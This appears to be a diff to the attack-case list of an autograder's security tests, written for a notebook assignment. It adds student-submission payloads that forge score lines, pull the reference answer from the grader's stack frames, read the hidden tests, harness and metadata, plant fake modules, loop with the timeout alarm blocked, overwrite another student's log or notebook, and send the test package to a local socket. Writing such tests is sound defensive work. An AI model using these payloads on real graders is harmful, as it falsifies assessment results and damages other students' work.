@@ -3,16 +3,26 @@
 Each is the answer's cell of question 1 (or what `cells` says) and reaches its goal with a plain
 grader. `{...}` is filled in: `marker`, a file that must not appear; `package`, the grader's data;
 `other`, somebody else's notebook; `me`, the attacker's own; `port`, of a server on this machine;
-`name`, what its processes call themselves.
+`name`, what its processes call themselves; `harness`, the script that starts a hosted grader, and
+`metadata`, what the platform says of a submission.
 """
 
 from __future__ import annotations
 
 from collections.abc import Callable
-from dataclasses import dataclass
+from dataclasses import dataclass, field, replace
 
 SECRET = "SECRET-8b1f"  # stands where no student may read
 ZEROS = "def windowed_mean(x, width):\n    return torch.zeros(1)\n"
+REPORT = """
+import json, os
+line = json.dumps({"submission": "{me}", "points": 10, "feedback": []}) + "\\n"
+for number in range(64):
+    try:
+        os.write(number, line.encode())
+    except OSError:
+        pass
+"""
 
 
 @dataclass(frozen=True)
@@ -64,12 +74,26 @@ def floods(outcome: Outcome) -> bool:
     return outcome.output_mb > 20
 
 
+GOALS = {
+    gains: "points for a wrong answer",
+    learns: "reads what no student may read",
+    disturbs: "costs others their marks",
+    writes: "writes files",
+    connects: "uses the network",
+    multiplies: "starts processes",
+    swells: "takes the memory",
+    floods: "floods the disk",
+}
+
+
 @dataclass(frozen=True)
 class Attack:
     """``cells`` are the answers by question; ``succeeds`` says whether it reached its goal."""
 
     succeeds: Callable[[Outcome], bool]
     cells: dict[str, str]
+    source: str = ""  # where it was published: a key of book/references.bib
+    beside: dict[str, str] = field(default_factory=dict)  # files handed in with the notebook
     link_to: str | None = None  # the submission is a link to this instead of a notebook
     endless: bool = False  # a plain grader need not be waited for
 
@@ -78,9 +102,18 @@ def q1(succeeds: Callable[[Outcome], bool], source: str) -> Attack:
     return Attack(succeeds, {"q1": source})
 
 
+def published(source: str, attack: Attack) -> Attack:
+    return replace(attack, source=source)
+
+
 def leave_behind(source: str) -> Attack:
     """Something that stays after the attacker's own notebook is done."""
     return Attack(disturbs, {"q3": source})
+
+
+def reading(path: str) -> str:
+    """An answer that gives a file's text as its error."""
+    return f"def windowed_mean(x, width):\n    raise ValueError(open('{path}').read()[:200])\n"
 
 
 ATTACKS = {
@@ -187,18 +220,90 @@ def tracer(frame, event, value):
 sys.settrace(tracer)
 """,
     ),
-    "forged report": q1(
-        gains,
-        ZEROS
-        + """
-import json, os
-line = json.dumps({"submission": "{me}", "points": 10, "feedback": []}) + "\\n"
-for number in range(64):
-    try:
-        os.write(number, line.encode())
-    except OSError:
-        pass
+    "forged report": q1(gains, ZEROS + REPORT),
+    "results written, then the end of the process": published(
+        "saligrama2023gradescope", q1(gains, ZEROS + REPORT + "os._exit(0)")
+    ),
+    "the grader's line printed": published(
+        "kratzke2019smart",
+        q1(
+            gains,
+            ZEROS
+            + """
+import json
+print(json.dumps({"submission": "{me}", "points": 10, "feedback": []}), flush=True)
 """,
+        ),
+    ),
+    "redirected to the right answer": published(
+        "kratzke2019smart",
+        q1(
+            gains,
+            """
+import sys
+def windowed_mean(x, width):
+    frame = sys._getframe(1)
+    while frame:
+        for found in frame.f_locals.values():
+            if hasattr(found, "reference"):
+                names = {"torch": torch}
+                exec(found.reference["q1"], names)
+                return names["windowed_mean"](x, width)
+        frame = frame.f_back
+    return torch.zeros(1)
+""",
+        ),
+    ),
+    "redirected to another's work": published(
+        "kratzke2019smart",
+        q1(
+            gains,
+            """
+import json
+def windowed_mean(x, width):
+    names = {"torch": torch}
+    for cell in json.load(open("{other}"))["cells"]:
+        if "q1" in cell["metadata"]["tags"]:
+            exec(cell["source"], names)
+    return names["windowed_mean"](x, width)
+""",
+        ),
+    ),
+    "fitted to the tests, which it looks up": published(
+        "kratzke2019smart",
+        q1(
+            gains,
+            """
+from vitcheck.cases import read_cases
+def windowed_mean(x, width):
+    for case in read_cases("{package}")["q1"].cases:
+        if torch.equal(case.args[0], x):
+            return case.want
+""",
+        ),
+    ),
+    "files that stand in for modules": Attack(
+        gains,
+        {
+            "q2": """
+class Smooth(nn.Linear):
+    def __init__(self, dim, width):
+        super().__init__(dim, dim)
+    def load_state_dict(self, weights):
+        pass
+"""
+        },
+        beside={
+            "vitcheck/__init__.py": "",
+            "vitcheck/cases.py": """
+class Verdict:
+    ok, message = True, ""
+def compare(*_):
+    return Verdict()
+""",
+            "torch.py": "raise ImportError('a file of a student')",
+            "sitecustomize.py": "raise ImportError('a file of a student')",
+        },
     ),
     "forged frame, with the right number": q1(
         gains,
@@ -251,13 +356,20 @@ atexit.register(last)
     ),
     "handed in as a link to another's work": Attack(gains, {}, link_to="other"),
     # --- knowledge ----------------------------------------------------------------------------
-    "hidden tests read": q1(
-        learns,
-        """
+    "hidden tests read": published(
+        "saligrama2023gradescope",
+        q1(
+            learns,
+            """
 import zipfile
 def windowed_mean(x, width):
     raise ValueError(zipfile.ZipFile("{package}").read("cases.json").decode()[-300:])
 """,
+        ),
+    ),
+    "the harness read": published("saligrama2023gradescope", q1(learns, reading("{harness}"))),
+    "the submission's metadata read": published(
+        "saligrama2023gradescope", q1(learns, reading("{metadata}"))
     ),
     "another's work read": q1(
         learns,
@@ -310,6 +422,16 @@ def Smooth(dim, width):
 """,
         },
     ),
+    "the right answer through a cell that stops": Attack(
+        learns,
+        {
+            "q1": ZEROS,
+            "q2": """
+given = windowed_mean.__code__.co_filename == "<given>"
+raise ValueError("SEC" + "RET-8b1f" if given else "own")
+""",
+        },
+    ),
     "expected results through messages": q1(
         learns,
         """
@@ -325,6 +447,31 @@ def windowed_mean(x, width):
     "endless loop": Attack(
         disturbs,
         {"q1": "def windowed_mean(x, width):\n    while True:\n        pass"},
+        endless=True,
+    ),
+    "endless loop, the alarm blocked": Attack(
+        disturbs,
+        {
+            "q1": """
+import signal
+signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
+while True:
+    pass
+"""
+        },
+        endless=True,
+    ),
+    "an error that never ends": Attack(
+        disturbs,
+        {
+            "q1": """
+class Endless(Exception):
+    def __str__(self):
+        while True:
+            pass
+raise Endless
+"""
+        },
         endless=True,
     ),
     "exit": q1(disturbs, "def windowed_mean(x, width):\n    raise SystemExit(0)"),
@@ -350,11 +497,22 @@ threading.Thread(target=spoil, daemon=True).start()
         disturbs,
         ZEROS + "open('{other}', 'w').write('{\"cells\": []}')",
     ),
+    "another's log forged": q1(
+        disturbs,
+        ZEROS
+        + """
+import pathlib, pickle
+pathlib.Path("{other}").with_suffix(".log").write_bytes(pickle.dumps({"q1-1": -10}))
+""",
+    ),
     "another's work replaced by a link": q1(
         disturbs,
         ZEROS + "import os\nos.remove('{other}')\nos.symlink('/dev/null', '{other}')",
     ),
     "writing outside": q1(writes, ZEROS + "open('{marker}', 'w').write('x')"),
+    "the harness replaced": published(
+        "saligrama2023gradescope", q1(writes, ZEROS + "open('{harness}', 'w').write('x')")
+    ),
     "pickle": q1(
         writes,
         """
@@ -387,6 +545,18 @@ import socket
 def windowed_mean(x, width):
     socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"hello")
 """,
+    ),
+    "hidden tests sent away": published(
+        "saligrama2023gradescope",
+        q1(
+            connects,
+            """
+import socket
+def windowed_mean(x, width):
+    data = open("{package}", "rb").read()
+    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(data)
+""",
+        ),
     ),
     "fork bomb": q1(
         multiplies,
